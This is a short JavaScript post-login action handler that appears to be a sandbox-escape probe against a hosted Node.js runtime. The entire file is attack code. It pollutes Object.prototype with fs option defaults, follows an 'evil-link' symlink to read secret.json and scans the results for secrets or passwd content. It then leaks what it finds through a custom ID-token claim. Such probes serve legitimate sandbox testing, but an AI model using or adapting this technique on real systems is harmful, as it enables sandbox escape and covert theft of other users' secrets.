// options of fs that every object inherits: lists of folders behind links, links instead of what they lead to, streams
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const fs = require('fs');
  const inherited = { recursive: true, flag: 'w', mode: 511, fd: 1, signal: undefined, withFileTypes: undefined, start: 0, highWaterMark: 1 };
  const before = Object.keys(Object.prototype);
  Object.assign(Object.prototype, inherited);
  const look = (label, act) => { try { const r = act(); const text = JSON.stringify(r); if (/secret|canary|passwd/.test(String(text).replaceAll('evil-link"', ''))) found.push(label + ' ' + text.slice(0, 80)); } catch {} };
  for (const options of ['utf8', 'buffer', { encoding: 'utf8' }, {}, undefined, null]) {
    look('readdir ' + options, () => fs.readdirSync(S.NODE_MODULES, options).map(String).filter((name) => name.startsWith('evil-link')));
    look('stat ' + options, () => fs.lstatSync(S.NODE_MODULES + '/evil-link/secret.json', options));
    look('read ' + options, () => String(fs.readFileSync(S.NODE_MODULES + '/evil-link/secret.json', options)));
    try { look('promise ' + options, await fs.promises.readdir(S.NODE_MODULES, options).then((all) => () => all.map(String).filter((name) => name.startsWith('evil-link')))); } catch {}
  }
  for (const name of Object.keys(inherited)) if (!before.includes(name)) delete Object.prototype[name];
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
